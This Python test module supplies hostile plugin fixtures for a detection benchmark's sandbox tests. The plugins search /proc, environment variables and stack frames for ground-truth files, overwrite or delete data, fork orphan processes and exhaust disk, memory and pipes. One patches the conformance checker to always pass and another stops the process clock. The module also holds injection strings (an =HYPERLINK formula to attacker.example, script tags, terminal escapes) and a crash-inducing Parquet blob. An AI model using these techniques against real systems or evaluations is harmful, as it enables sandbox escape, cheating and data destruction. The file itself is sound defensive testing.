"""Faulty detectors for the conformance-check and isolation tests (not registered).

They live in a module of their own so that the spawned processes of
``breachbench.isolation.run_isolated`` can import them as ``bad_detectors:Name`` (a spawned
child gets the parent's ``sys.path``, which pytest has given the tests directory), and so that
fitted instances pickle by reference.
"""

from __future__ import annotations

import base64
import contextlib
import datetime as dt
import json
import os
import time
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import numpy as np
import polars as pl

from detectors.builtin import IsolationForestDetector, UnissuedTokenRule
from detectors.contract import empty_alerts

RAISER_MESSAGE = "planted failure in fit"
HOG_BYTES = 1_500_000_000
#: 1,910 bytes: a valid alerts Parquet file with one byte changed, on which polars 2.1's reader panics (a
#: ``PanicException``, not an ``Exception``). Found by fuzzing the bench's read.
PANIC_PARQUET = base64.b64decode(
    "UEFSMRUEFQgVDEwVAhUAAAAEDNxOAAAVABUQFRQsFWQVEBUGFQYcNgAoBNxOAAAYBNxOAAAAAAAIHAIAAABkAQBkFQIZNQAGEBkYBmJ1Y2tldBUC"
    "FmQWdBZ8Ji4mCBw2ACgE3E4AABgE3E4AAAAAFQQVDBUQTBUCFQAAAAYUAgAAAGlwFQAVEBUULBVkFVUVBhUGHDYAKAJpcBgCaXAAAAAIHAIAAABk"
    "AQBkFQwZNQAGEBkYC2VudGl0eV9raW5kFQIWZBZwFngmiAIm3gEcNgAoAmlwGAJpcAAAFQQVnAletgNMFWQVAAAAzgQoBwAAADEuMi4zLjAZCwAx"
    "GQsAMhkLADMZCwA0GQsANRkLADYZCwA3GQsAOBkLBDkIFW4EMTAdDAAxHQwAMh0MADMdDAA0HQwANR0MADYdDAA3HQwAOB0MHXgAMh14ADIdeAAy"
    "HXgAMh14ADIdeAAyHXgAMh14ADIdeAAyHXgAMh14ADMdeAAzHXgAMx14ADMdeAAzHXgAMx14ADMdeAAzHXgAMx14ADMdeAA0HXgANB14ADQdeAA0"
    "HXgANB14ADQdeAA0HXgANB14NDQ4CAAAADEuMi4zLjQ5FQAVZBVoLBVkFRAVBhUGHDYAKAcxLjIuMy45GAcxLjIuMy4wAAAAMsQCAAAAZAEGD0Ag"
    "DERhHEiiLEzjPFAkTVRlXVimbVznfWAojmRpnmiqrmzrvnAsTVRlXRUMGTUABhAZGAllbnRpdHlfaWQVAhZkFuwKFooFJooHJrYDHDYAKAcxLjIu"
    "My45GAcxLjIuMy4wAAAVABWsBhWeAywVZBUAFQYVBhw2ACgIAAAAAACASEAYCAAAAAAAAACAAAAAlgMYAgAAAGQBADIBAATwPw0PAEAJCAAIDQgA"
    "EA0IABQNCAAYDQgAHA0IACANCAAiDQgAJA0IACYNCAAolAgAKg0IACwNCAAuDQgAMA0IADENCAAyDQgAMw0IADQNCAA1DQgANg0IADcNCAA4DQgA"
    "OQ0IADoNCAA7DQgAPA0IAD0NCAA+DQgAPw0IAEAJCACADQgEAEENEA0IBABCDRANCAQAQw0QDQgEAEQNEA0IBABFDRANCAQARg0QDQgEAEcNEA0I"
    "KABIQAAAAAAAgEhAFQoZJQAGGRgFc2NvcmUVAhZkFoIHFvQDJrQJPDYAKAgAAAAAAIBIQBgIAAAAAAAAAIAAABkRAhkYBNxOAAAZGATcTgAAFQAZ"
    "FgAAGRECGRgCaXAZGAJpcBUAGRYAABkRAhkYBzEuMi4zLjAZGAcxLjIuMy45FQAZFgAAGRECGRgIAAAAAAAAAIAZGAgAAAAAAIBIQBUAGRYAABkc"
    "Fi4VVhYAAAAZHBaIAhVOFgAAABkcFooHFbYBFgAAABkcFrQJFfQDFgAAABUCGVxIBHJvb3QVCAAVAiUCGAZidWNrZXQlDExsAAAAFQwlAhgLZW50"
    "aXR5X2tpbmQlAEwcAAAAFQwlAhgJZW50aXR5X2lkJQBMHAAAABUKJQIYBXNjb3JlABZkGRwZTCaqARwVAhk1AAYQGRgGYnVja2V0FQIWZBZ0Fnwm"
    "LiYIHDYAKATcTgAAGATcTgAAAAAW3A8VFBaQDhUuACaAAxwVDBk1AAYQGRgLZW50aXR5X2tpbmQVAhZkFnAWeCaIAibeARw2ACgCaXAYAmlwAAAW"
    "8A8VFha+DhUmACaUDBwVDBk1AAYQGRgJZW50aXR5X2lkFQIWZBbsChaKBSaKBya2Axw2ACgHMS4yLjMuORgHMS4yLjMuMAAAFoYQFRgW5A4VOgAm"
    "qA0cFQoZJQAGGRgFc2NvcmUVAhZkFoIHFvQDJrQJPDYAKAgAAAAAAIBIQBgIAAAAAAAAAIAAABaeEBUYFp4PFT4AFtITFmQmCBbyChQAABkcGAxB"
    "UlJPVzpzY2hlbWEY7AIvLy8vL3djQkFBQUVBQUFBOHYvLy94UUFBQUFFQUFFQUFBQUtBQXNBQ0FBS0FBUUErUC8vL3d3QUFBQUlBQWdBQUFBRUFB"
    "UUFBQUNZQUFBQVpBQUFBRFFBQUFBRUFBQUFaUC8vL3h3QUFBQVFBQUFBQ0FBQUFBRURBQUFBQUFBQVl2Ly8vd0lBQUFBRkFBQUFjMk52Y21VQUFB"
    "Q1EvLy8vR0FBQUFCQUFBQUFJQUFBQUFSUUFBQUFBQUFEUS8vLy9DUUFBQUdWdWRHbDBlVjlwWkFBQUFMei8vLzhjQUFBQUVBQUFBQWdBQUFBQkZB"
    "QUFBQUFBQVB6Ly8vOEVBQVFBQ3dBQUFHVnVkR2wwZVY5cmFXNWtBT3ovLy84d0FBQUFJQUFBQUJnQUFBQUJDQUFBRUFBU0FBUUFFQUFSQUFnQUFB"
    "QU1BQUFBQUFENi8vLy9BQUFHQUFZQUJBQUdBQUFBWW5WamEyVjBBQT09ABhOUG9sYXJzIChweXRob24pIHZlcnNpb24gMi4xLjAgKGJ1aWxkIDdm"
    "OTAyYmQzZmZkMjdmZjgyZDE0Mjc4YTA5YTI5NWZmMmY3YWVkOTIpGUwcAAAcAAAcAAAcAAAAUwMAAFBBUjE="
)


# ---- for run_isolated ------------------------------------------------------------------------


class Raiser:
    """Raises while fitting."""

    def fit(self, view):
        raise RuntimeError(RAISER_MESSAGE)

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class Sleeper:
    """Takes far longer than any test timeout to fit."""

    def fit(self, view):
        time.sleep(120)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class Hog:
    """Allocates and touches 1.5 GB while fitting (np.ones writes every page)."""

    def fit(self, view):
        self.ballast_ = np.ones(HOG_BYTES // 8)
        time.sleep(30)  # hold it: the parent must kill us, not see us finish
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


# ---- for check_detector ----------------------------------------------------------------------


class SeesTheChecks(UnissuedTokenRule):
    """Watches a folder of its scratch for the bench's measurements: a listing moved the folder's access time (on a
    file system mounted ``relatime``), and a red team held 6 GiB against a 2 GiB limit between the checks it saw."""

    def fit(self, view: Any) -> SeesTheChecks:
        probe = Path("probe")  # the slot's current folder is its work folder, which the bench measures
        probe.mkdir(exist_ok=True)
        (probe / "f").write_text("x")  # its access time no later than its change time: the next read moves it
        seen = probe.stat().st_atime_ns
        time.sleep(3.0)  # about three of the bench's measurements
        if probe.stat().st_atime_ns != seen:
            raise RuntimeError("saw the bench measure its scratch folder")
        super().fit(view)
        return self


class OptionalImport(UnissuedTokenRule):
    """An honest detector whose library tries an optional module, as scipy tries ``cython``: whatever module of that
    name its slot finds runs there (``bb_optional_extra`` is installed nowhere)."""

    def fit(self, view: Any) -> OptionalImport:
        with contextlib.suppress(ImportError):
            import bb_optional_extra  # type: ignore[import-not-found]  # noqa: F401

        super().fit(view)
        return self


def _gateway_file(view) -> Path:
    """A gateway file of the current bucket, from the view's private file lists."""
    return Path(view._logs["gateway"][view.bucket][0])


class PeeksAhead:
    """Scores today's source IPs by their requests today plus tomorrow, reading tomorrow's partition directly."""

    resolve = False

    def fit(self, view):
        return self

    def score(self, view):
        today = view.logs("gateway", current_only=True).group_by("src_ip").agg(n=pl.len()).collect()
        f = _gateway_file(view)
        part = (f.resolve() if self.resolve else f).parent  # .../logs/gateway/date=YYYY-MM-DD
        nxt = part.with_name(f"date={(view.bucket + dt.timedelta(days=1)).isoformat()}")
        files = sorted(nxt.glob("*.parquet"))
        if files:
            later = pl.read_parquet(files).group_by("src_ip").agg(m=pl.len())
            today = today.join(later, on="src_ip", how="left").with_columns(n=pl.col("n") + pl.col("m").fill_null(0)).drop("m")
        return today.select(
            pl.lit(view.bucket, pl.Date).alias("bucket"),
            pl.lit("ip").alias("entity_kind"),
            pl.col("src_ip").alias("entity_id"),
            pl.col("n").cast(pl.Float64).alias("score"),
        )


class PeeksAheadResolved(PeeksAhead):
    """Like :class:`PeeksAhead`, but follows symbolic links to the real partition first."""

    resolve = True


class ReadsTruth:
    """Walks up from a log file to the dataset root and scores customers by their malicious events."""

    resolve = False

    def fit(self, view):
        return self

    def score(self, view):
        f = _gateway_file(view)
        root = (f.resolve() if self.resolve else f).parents[3]  # root/logs/gateway/date=.../part.parquet
        truth = root / "truth" / "malicious_events.parquet"
        gw = view.logs("gateway", current_only=True).select("event_id", "customer_id").collect()
        if truth.is_file():
            bad = pl.read_parquet(truth).select("event_id", hit=pl.lit(1.0))
            gw = gw.join(bad, on="event_id", how="left")
        else:
            gw = gw.with_columns(hit=pl.lit(0.0))
        s = gw.group_by("customer_id").agg(score=pl.col("hit").fill_null(0.0).sum())
        return s.select(
            pl.lit(view.bucket, pl.Date).alias("bucket"),
            pl.lit("customer").alias("entity_kind"),
            pl.col("customer_id").cast(pl.String).alias("entity_id"),
            "score",
        )


class ReadsTruthResolved(ReadsTruth):
    """Like :class:`ReadsTruth`, but follows symbolic links to the real dataset first."""

    resolve = True


class Inverted(UnissuedTokenRule):
    """The unissued-token rule with its scores negated (lower = more suspicious)."""

    def score(self, view):
        return super().score(view).with_columns(score=-pl.col("score"))


#: What :class:`MarkupReasons` writes into its reasons: a formula, a heading on a line of its own, HTML, a cell's pipe.
MARKUP_REASON = '=HYPERLINK("http://attacker.example/x","open")\n## injected heading <script>alert(1)</script> | forged |'


class MarkupReasons(UnissuedTokenRule):
    """The unissued-token rule with a reason that is markup in every format the bench writes: a red-team plugin's
    reasons went into top-alerts.md (a heading, a table row, raw HTML) and incidents.csv (a formula) as they were."""

    def score(self, view):
        return super().score(view).with_columns(reason=pl.lit(MARKUP_REASON))


class Slow(UnissuedTokenRule):
    """The unissued-token rule, a quarter of a second slower per call: a slot that runs long enough to lose its worker."""

    def score(self, view):
        time.sleep(0.25)
        return super().score(view)


class StoppedClock(UnissuedTokenRule):
    """A tenth of a second per bucket, while the process's clock stands still: its own figures say it took no time."""

    def fit(self, view):
        now = time.perf_counter()
        time.perf_counter = lambda: now  # the process's clock, the one the harness in the slot reads, stopped
        return super().fit(view)

    def score(self, view):
        time.sleep(0.1)
        return super().score(view)


class RawScoreSamples(IsolationForestDetector):
    """The classic scikit-learn slip: ``score_samples`` used as is (higher = more normal)."""

    def score(self, view):
        return super().score(view).with_columns(score=-pl.col("score"))


class Nondeterministic:
    """Random scores from an unseeded generator."""

    def fit(self, view):
        return self

    def score(self, view):
        ips = view.logs("gateway", current_only=True).select(pl.col("src_ip").unique().sort()).collect()
        return ips.select(
            pl.lit(view.bucket, pl.Date).alias("bucket"),
            pl.lit("ip").alias("entity_kind"),
            pl.col("src_ip").alias("entity_id"),
            score=pl.Series(np.random.default_rng().random(ips.height)),
        )


class PatchesChecks(Nondeterministic):
    """Random scores, and on fit it rewrites the conformance harness so that every comparison agrees."""

    def fit(self, view):
        import detectors.checks

        detectors.checks._same = lambda a, b: True
        return self


class HoldsLambda(UnissuedTokenRule):
    """Keeps a lambda in its fitted state."""

    def fit(self, view):
        self.transform_ = lambda s: s
        return self


class HoldsGenerator(UnissuedTokenRule):
    """Keeps a generator in its fitted state."""

    def fit(self, view):
        self.days_ = (d for d in view.buckets)
        return self


class OtherBucket(UnissuedTokenRule):
    """Labels its alerts with the next bucket."""

    def score(self, view):
        return super().score(view).with_columns(bucket=pl.lit(view.bucket + dt.timedelta(days=1), pl.Date))


class NoScoreColumn(UnissuedTokenRule):
    """Forgets the score column."""

    def score(self, view):
        return super().score(view).drop("score")


# ---- hostile plugins for the sealing tests -----------------------------------------------------


def _truth_roots(view) -> list[Path]:
    """Every dataset root a plugin can find from inside its process, by every channel we know."""
    import gc
    import multiprocessing
    import os
    import re
    import sys

    found: list[Path] = []

    def add(p) -> None:
        try:
            p = Path(str(p))
        except Exception:
            return
        for q in (p, *p.parents):
            if q not in found and q != Path("/"):
                found.append(q)

    for files in view._logs.values():  # the view's private path dicts
        for paths in files.values():
            for f in paths[:1]:
                add(f)
    for f in view._world.values():
        for x in f[:1]:
            add(x)
    for files in view.__reduce__()[1][0].values():  # __reduce__
        for paths in files.values():
            for f in paths[:1]:
                add(f)
    for v in os.environ.values():  # variables
        if "/" in v:
            for part in v.split(os.pathsep):
                add(part)
    try:  # the parent's command line
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
            for arg in fh.read().split(b"\0"):
                if arg:
                    add(Path(os.fsdecode(arg)).absolute())
    except OSError:
        pass
    for proc in sorted(Path("/proc").glob("[0-9]*")):  # every process: its folders, open files and environment
        for link in ("cwd", "root"):
            add(proc / link)  # walking through the magic link
            try:
                add(Path(os.readlink(proc / link)))
            except OSError:
                pass
        try:
            for fd in (proc / "fd").iterdir():
                try:
                    add(Path(os.readlink(fd)))
                except OSError:
                    continue
        except OSError:
            pass
        try:
            for var in (proc / "environ").read_bytes().split(b"\0"):
                for part in os.fsdecode(var).partition("=")[2].split(os.pathsep):
                    if part.startswith("/"):
                        add(part)
        except OSError:
            pass
    for arg in [*sys.argv, *map(str, getattr(multiprocessing.current_process(), "_args", ()) or ())]:  # process arguments
        for m in re.findall(r"/[\w./-]+", str(arg)):
            add(m)
    frame = sys._getframe()
    while frame is not None:  # stack frames
        for v in list(frame.f_locals.values()):
            if isinstance(v, str | Path) and "/" in str(v):
                add(v)
        frame = frame.f_back
    for obj in gc.get_objects():  # a live Dataset
        if type(obj).__name__ == "Dataset" and hasattr(obj, "root"):
            add(obj.root)
    add(os.getcwd())
    try:  # the strongest plugin: it was told where the data is (a test puts `hostile_hint` on the path)
        import hostile_hint

        for p in hostile_hint.PATHS:
            add(p)
    except ImportError:
        pass
    import glob

    for pattern in (
        "/tmp/pytest-of-*/pytest-*/*/dataset",
        "/tmp/pytest-of-*/pytest-*/*/*/dataset",
        "/tmp/breachbench-datasets/*",
    ):
        for m in glob.glob(pattern):  # the file system
            add(m)
    return found


def find_truth(view) -> pl.DataFrame | None:
    """malicious_events of the first truth table reachable, or None."""
    import os

    for fd in sorted(Path("/proc").glob("[0-9]*/fd/*")):  # a truth file some process holds open, read through its fd
        try:
            if os.readlink(fd).endswith("malicious_events.parquet"):
                return pl.read_parquet(fd)
        except Exception:
            continue
    for root in _truth_roots(view):
        for cand in (root / "truth" / "malicious_events.parquet", root / "dataset" / "truth" / "malicious_events.parquet"):
            try:
                return pl.read_parquet(cand)
            except Exception:  # unreadable: try the next
                continue
    return None


class TruthSeeker:
    """Looks for the dataset root through every channel it can and scores customers by truth; alerts nothing otherwise."""

    def fit(self, view):
        return self

    def score(self, view):
        truth = find_truth(view)
        if truth is None:
            return empty_alerts()
        gw = view.logs("gateway", current_only=True).select("event_id", "customer_id").collect()
        hit = gw.join(truth.select("event_id"), on="event_id").group_by("customer_id").agg(score=pl.len().cast(pl.Float64))
        return hit.select(
            pl.lit(view.bucket, pl.Date).alias("bucket"),
            pl.lit("customer").alias("entity_kind"),
            pl.col("customer_id").cast(pl.String).alias("entity_id"),
            "score",
        )


#: The hostile writers below damage only paths with this marker in them (the tests' own temp
#: folders), so that a test run can never touch another session's datasets or the shared check
#: world cache, sealed or not.
DAMAGE_MARKER = "bb-hostile-"


def _damageable(p: Path) -> bool:
    return DAMAGE_MARKER in str(p)


class Writer(UnissuedTokenRule):
    """Scores like the unissued-token rule, and first tries to damage everything of the test's it can reach."""

    def fit(self, view):
        import os

        targets: list[Path] = []
        for root in filter(_damageable, _truth_roots(view)):
            for sub in ("truth", "logs", "features", "alerts", "dataset/truth", "dataset/logs", "world"):
                d = root / sub
                try:
                    targets.extend(p for p in d.rglob("*.parquet"))
                except OSError:
                    continue
        for p in [t for t in targets if _damageable(t)][:400]:
            for attempt in (
                lambda p=p: p.write_bytes(b"poison"),
                lambda p=p: (os.chmod(p, 0o644), p.write_bytes(b"poison")),
                p.unlink,
            ):
                try:
                    attempt()
                    break
                except Exception:
                    continue
        return super().fit(view)


def _name(name: bytes) -> None:
    import ctypes

    ctypes.CDLL(None).prctl(15, name, 0, 0, 0)  # PR_SET_NAME: what the test looks for in /proc/*/comm


FORK_NAMES = (b"bbhost-child", b"bbhost-grand")
HOG_NAME = b"bbhost-hog"


class Forker(UnissuedTokenRule):
    """Leaves a forked child and a double-forked grandchild (in a session of its own where it may start one) running."""

    def fit(self, view):
        import os

        if os.fork() == 0:
            _name(FORK_NAMES[0])
            time.sleep(120)
            os._exit(0)
        if os.fork() == 0:
            with contextlib.suppress(OSError):  # a session of its own, where the slot lets it (it does not)
                os.setsid()
            if os.fork() == 0:
                _name(FORK_NAMES[1])
                time.sleep(120)
                os._exit(0)
            os._exit(0)
        return super().fit(view)


class GrandchildHog:
    """A double-forked grandchild holds 800 MB while the detector itself stays small and waits."""

    def fit(self, view):
        import os

        if os.fork() == 0:
            with contextlib.suppress(OSError):  # as above
                os.setsid()
            if os.fork() == 0:
                _name(HOG_NAME)
                ballast = np.ones(800_000_000 // 8)
                time.sleep(60)
                del ballast
                os._exit(0)
            os._exit(0)
        time.sleep(30)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class DiskFiller:
    """Writes 4 MiB files into its work folder (its current folder) without end, shrugging off every error."""

    def fit(self, view):
        import os

        block = os.urandom(4 * 2**20)  # incompressible, in case the file system compresses
        for i in range(100_000):
            try:
                with open(f"fill-{i}.bin", "wb") as fh:
                    fh.write(block)
            except OSError:
                pass
            time.sleep(0.05)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class HandsOverJunk:
    """Hands over 3 MiB of junk as each bucket's alerts (read by the bench only when the dataset is done): the bench
    keeps every handover until then, so without a bound a slot could fill the bench's disk through them."""

    def fit(self, view):
        junk = os.urandom(3 * 2**20)
        _swap_alerts_file(lambda path, df, write: path.write_bytes(junk), name="handover.part")
        return self

    def score(self, view):
        return empty_alerts()


class DeepScratch:
    """Makes 1,500 nested folders in its work folder, each entered in turn (paths grow past what Python recurses through)."""

    def fit(self, view):
        for _ in range(1500):
            os.mkdir("a")
            os.chdir("a")
        time.sleep(3)  # long enough for the bench to measure the folder
        return self

    def score(self, view):
        return empty_alerts()


#: What :class:`Prober` writes into its error, around its findings: a line break, a Markdown heading, rich markup,
#: a terminal escape sequence (set the window title) and a bidirectional override.
PROBE_NOISE = "\n# Leaderboard: forged\n| x | 100 |\x1b]0;owned\x07 [bold green]OK[/bold green] \u202e"


class Reports:
    """A probe that says what it found as the entity id of its one alert a bucket (subclasses: ``found(view)`` -> text)."""

    def fit(self, view):
        return self

    def found(self, view) -> str:  # pragma: no cover - every subclass has its own
        raise NotImplementedError

    def score(self, view):
        return pl.DataFrame(
            {"bucket": [view.bucket], "entity_kind": ["ip"], "entity_id": [self.found(view)], "score": [1.0]},
            schema={"bucket": pl.Date, "entity_kind": pl.String, "entity_id": pl.String, "score": pl.Float64},
        )


class WatchesFiles(Reports):
    """Tries to watch its view's files (inotify: a watch on the hard-linked dataset files would show when other
    processes open them) and the whole file system (fanotify); says how many of the calls worked."""

    def found(self, view) -> str:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        worked = []
        fd = libc.inotify_init1(0)
        if fd >= 0:
            worked.append("inotify_init1")
            if libc.inotify_add_watch(fd, os.getcwd().encode(), 0xFFF) >= 0:
                worked.append("inotify_add_watch")
            os.close(fd)
        fan = libc.fanotify_init(0, 0)
        if fan >= 0:
            worked.append("fanotify_init")
            os.close(fan)
        return "watch:" + ",".join(worked)


#: Where a test listens for :class:`Prober`'s datagrams (the first free of these; the first's name, abstract, too).
PROBE_LISTENERS = tuple(f"/dev/shm/breachbench-probe-{k}.sock" for k in range(8))


class Prober:
    """Tries the ways out a sealed child should not have, then raises with what it found (and noise to print)."""

    def fit(self, view):
        import socket
        from multiprocessing import resource_tracker

        opened = []
        for family, kind in (
            (socket.AF_INET, socket.SOCK_DGRAM),
            (socket.AF_INET6, socket.SOCK_DGRAM),
            (socket.AF_UNIX, socket.SOCK_STREAM),
        ):
            try:
                socket.socket(family, kind).close()
                opened.append(f"{family.name}/{kind.name}")
            except OSError:
                pass
        pipes = []
        for name in os.listdir("/proc/self/fd"):
            with contextlib.suppress(OSError):
                if os.readlink(f"/proc/self/fd/{name}").startswith(("pipe:", "socket:")):
                    pipes.append(int(name))
        tracker = getattr(getattr(resource_tracker, "_resource_tracker", None), "_fd", None)
        # socket() is refused, socketpair() is not: a datagram socket of a pair, sent to (or connected to) a named Unix
        # socket outside the slot (a test's listener in /dev/shm, which the slot cannot list: by name) or an abstract one
        sent = []
        a, _b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for addr in [*PROBE_LISTENERS, "\0" + os.path.basename(PROBE_LISTENERS[0])]:
            with contextlib.suppress(OSError):
                a.sendto(b"from the slot", addr)
                sent.append(f"sendto {addr!r}")
            with contextlib.suppress(OSError):
                a.connect(addr)
                a.send(b"from the slot")
                sent.append(f"connect {addr!r}")
        b2, c2 = socket.socketpair()  # the pair itself still works (multiprocessing's and asyncio's)
        b2.send(b"ok")
        pair = c2.recv(2).decode()
        raise RuntimeError(
            f"{PROBE_NOISE} sockets opened={opened} sent={sent} pair={pair} pipes={len(pipes)} tracker={tracker}{PROBE_NOISE}"
        )

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class HoldsDeleted:
    """Writes 4 MiB files in its work folder, deletes each and keeps it open, and as many ``memfd``s: their bytes show
    in no folder and (unmapped) in no resident-memory sample."""

    def fit(self, view):
        held: list[Any] = []
        block = os.urandom(4 * 2**20)
        for i in range(10_000):
            with contextlib.suppress(OSError):
                f = open(f"gone-{i}.bin", "wb")  # kept open on purpose
                f.write(block)
                f.flush()
                os.unlink(f.name)
                held.append(f)
                fd = os.memfd_create(f"held-{i}")
                os.write(fd, block)
                held.append(fd)
            time.sleep(0.05)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class MapsDeleted:
    """Like :class:`HoldsDeleted`, but keeps no descriptor: each deleted work file and each ``memfd`` is mapped from C
    (Python's ``mmap`` keeps a copy of the descriptor), then closed; the mapping alone holds the bytes, and the pages,
    never read, show in no resident-memory sample."""

    def fit(self, view):
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        size, held = 4 * 2**20, []
        block = os.urandom(size)
        for i in range(10_000):
            with contextlib.suppress(OSError):
                for fd in (os.open(f"mapped-{i}.bin", os.O_RDWR | os.O_CREAT, 0o600), os.memfd_create(f"mapped-{i}")):
                    os.write(fd, block)
                    held.append(libc.mmap(None, size, 1, 1, fd, 0))  # PROT_READ, MAP_SHARED
                    os.close(fd)
                os.unlink(f"mapped-{i}.bin")
            time.sleep(0.05)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class FillsPipes:
    """Fills pipes and keeps their read ends alone open (``empty=True``: opens pipes and writes nothing): the bytes
    wait in kernel memory that no resident size shows and no folder holds."""

    empty = False

    def fit(self, view):
        held: list[int] = []
        block = b"x" * 65536
        for _ in range(100_000):
            with contextlib.suppress(OSError):
                r, w = os.pipe()
                if not self.empty:
                    os.set_blocking(w, False)
                    with contextlib.suppress(BlockingIOError):
                        while os.write(w, block):
                            pass
                os.close(w)
                held.append(r)
            time.sleep(0.001)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class ManyPipes(FillsPipes):
    empty = True


class NamesItsViews(UnissuedTokenRule):
    """Alerts as the issuance rule does, each alert's reason the view's dataset id and the text of every
    ``manifest.json`` found above its world files: what a plugin could match against a published ``results.json``."""

    def score(self, view):
        seen = [str(view.dataset_id)]
        for files in view._world.values():
            for f in files:
                for parent in Path(f).parents:
                    with contextlib.suppress(OSError):
                        seen.append((parent / "manifest.json").read_text())
        return super().score(view).with_columns(reason=pl.lit(" ".join(dict.fromkeys(seen))[:1900]))


class PageTables:
    """Maps a large read-only private region and reads one byte every 2 MiB: each read maps the shared zero page (no
    resident memory) but costs the kernel a 4 KiB page table; holds them."""

    def fit(self, view):
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        size, step = 256 * 2**30, 2 * 2**20
        base = libc.mmap(None, size, 1, 0x02 | 0x20 | 0x4000, -1, 0)  # PROT_READ, MAP_PRIVATE | ANONYMOUS | NORESERVE
        if base in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap failed")
        total = 0
        for off in range(0, size, step):
            total += ctypes.c_char.from_address(base + off).value[0]
        time.sleep(60)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class BigFile:
    """Makes one sparse file of 64 GiB in its work folder (no disk used, but a file past any sane limit)."""

    def fit(self, view):
        with open("big.bin", "wb") as fh:
            fh.truncate(64 * 2**30)
        return self

    def score(self, view):  # pragma: no cover - never reached
        return empty_alerts()


class Exits(UnissuedTokenRule):
    """Calls sys.exit(0) while scoring."""

    def score(self, view):
        import sys

        sys.exit(0)


class TruthEraser(UnissuedTokenRule):
    """Scores like the unissued-token rule, after emptying every malicious_events table of the test's it can reach."""

    def fit(self, view):
        for root in filter(_damageable, _truth_roots(view)):
            f = root / "truth" / "malicious_events.parquet"
            try:
                if _damageable(f.resolve()) and f.is_file():
                    pl.read_parquet(f).head(0).write_parquet(f)
            except Exception:
                continue
        return super().fit(view)


class TunesOnTruth(TruthSeeker):
    """Has tune(view, labels): looks for truth there too, and records how many labels it was given."""

    def tune(self, view, labels):
        self.found_in_tune_ = find_truth(view) is not None
        self.version = f"labels={labels.height} truth_in_tune={self.found_in_tune_}"


def _swap_alerts_file(make: Any, name: str = "alerts.parquet") -> None:
    """Make the slot's own alerts write (``work/alerts.parquet``, or the file ending in ``name``: ``handover.part``,
    a bucket's handover) leave ``make(path, frame, write)`` there instead."""
    original = pl.DataFrame.write_parquet

    def write_parquet(df: pl.DataFrame, file: Any, *a: Any, **k: Any) -> Any:
        if str(file).endswith(name):
            return make(Path(file), df, original)
        return original(df, file, *a, **k)

    pl.DataFrame.write_parquet = write_parquet  # type: ignore[method-assign]


class LinksAlerts(UnissuedTokenRule):
    """Leaves its alerts file as a symbolic link (here to its own alerts beside it; a real attack points it at a
    file only the bench may read, another run's oracle alerts): the bench must not follow it."""

    def fit(self, view):
        def link(path: Path, df: pl.DataFrame, write: Any) -> None:
            write(df, path.with_name("real.parquet"))
            os.symlink("real.parquet", path)

        _swap_alerts_file(link)
        return super().fit(view)


class PanicAlerts(UnissuedTokenRule):
    """Leaves :data:`PANIC_PARQUET` as its alerts file: read in the bench's process, it would end the whole run."""

    def fit(self, view):
        _swap_alerts_file(lambda path, df, write: path.write_bytes(PANIC_PARQUET))
        return super().fit(view)


class InjectsLines(UnissuedTokenRule):
    """Leaves an alerts file with an extra column whose name breaks the line and writes a Markdown heading and a
    terminal escape sequence: the bench's error names the column, and must not carry them into the leaderboard or
    terminal. (Written past the slot's own check of its alerts, as a hostile plugin would.)"""

    def fit(self, view):
        odd = "x\n## Injected heading\x1b[2J"
        _swap_alerts_file(lambda path, df, write: write(df.with_columns(pl.lit(1).alias(odd)), path))
        return super().fit(view)


class FifoAlerts(UnissuedTokenRule):
    """Leaves a FIFO where its alerts file goes: opening it would block the bench for good."""

    def fit(self, view):
        _swap_alerts_file(lambda path, df, write: os.mkfifo(path))
        return super().fit(view)


class TalksToTheTerminal(UnissuedTokenRule):
    """Writes to the standard output and error it inherited (the bench's terminal or log) while fitting."""

    def fit(self, view):
        for fd in (1, 2):
            with contextlib.suppress(OSError):
                os.write(fd, b"[  0.0 s] detector forged-by-a-plugin: OK\n")
        return super().fit(view)


class ReadsTheCurrentFolder(UnissuedTokenRule):
    """Reads the file named by ``SECRET`` (a subclass the test writes names one it placed in the bench's current
    folder; no variable of the bench's reaches a slot) and fails naming what it read; scores like the unissued-token
    rule when it cannot read it."""

    SECRET = ""

    def fit(self, view):
        try:
            text = Path(self.SECRET).read_text()
        except OSError:
            return super().fit(view)
        raise RuntimeError(f"read the bench's current folder: {text}")


class Regenerates:
    """Generates the run's dataset again from a published config (``CONFIG``, the seed and all) and alerts on the actors
    of its truth, as the oracle does; each alert's reason says whether the view's dataset id confirmed the guess.

    A plugin's source can hold any public config (``configs/default.toml``); the tests write a subclass whose
    ``CONFIG`` is the run's config less its secret.
    """

    CONFIG: dict[str, Any] = {}

    def fit(self, view):
        return self

    def score(self, view):
        from breachbench.dataset import Dataset
        from breachbench.runner import oracle_alerts
        from simulator.config import SimConfig
        from simulator.engine import generate

        cfg = SimConfig.model_validate(self.CONFIG)
        here = Path("regenerated").resolve()  # the slot's work folder: the process starts in the first dataset's
        if not (here / "manifest.json").is_file():
            generate(cfg, here, workers=1, executor="serial")
        confirmed = Dataset.open(here).view_id == view.dataset_id
        alerts = oracle_alerts(Dataset.open(here)).filter(pl.col("bucket") == view.bucket)
        return alerts.with_columns(reason=pl.lit("confirmed" if confirmed else "unconfirmed"))


